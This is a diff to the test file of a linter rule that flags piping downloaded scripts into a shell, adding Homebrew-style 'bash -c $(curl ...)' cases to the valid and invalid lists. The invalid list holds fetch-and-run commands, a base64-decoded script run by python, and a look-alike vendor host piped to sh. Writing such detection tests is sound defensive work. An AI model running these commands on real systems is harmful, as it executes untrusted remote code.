@@ -3,6 +3,7 @@ import { ruleTester } from '../../rule-tester.js';
 
 ruleTester('injection.pipe-to-shell', {
   valid: [
+    { text: '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"', kind: 'shell', name: 'Homebrew installer through bash -c' },
     { text: 'RUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -', kind: 'shell', name: 'NodeSource setup script' },
     { text: 'urlretrieve(url, "data.csv")\nprint(open("data.csv").read())', kind: 'code-py', name: 'downloaded data read, not run' },
     { text: 'curl -LsSf https://astral.sh/uv/install.sh | sh', kind: 'shell', name: 'official vendor installer over HTTPS' },
@@ -17,6 +18,7 @@ ruleTester('injection.pipe-to-shell', {
     { text: '| pipe_to_shell | curl <url> | bash |', kind: 'markdown', name: 'pattern table row' },
   ],
   invalid: [
+    { text: '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/someone/install/HEAD/install.sh)"', kind: 'shell', name: 'same shape, other repository', errors: [{ line: 1, column: 8 }] },
     { text: 'urllib.request.urlretrieve(URL, agent)\nos.chmod(agent, 0o755)', kind: 'code-py', name: 'python download made executable', errors: [{ line: 1, column: 16 }] },
     { text: 'python3 -c "$(echo aW1wb3J0IG9z | base64 --decode)"', kind: 'shell', name: 'decoded script run by python -c', errors: [{ line: 1, column: 1 }] },
     { text: 'curl -LsSf https://astral.sh.example.net/uv/install.sh | sh', kind: 'shell', name: 'look-alike of a vendor host', errors: [{ line: 1, column: 1 }] },
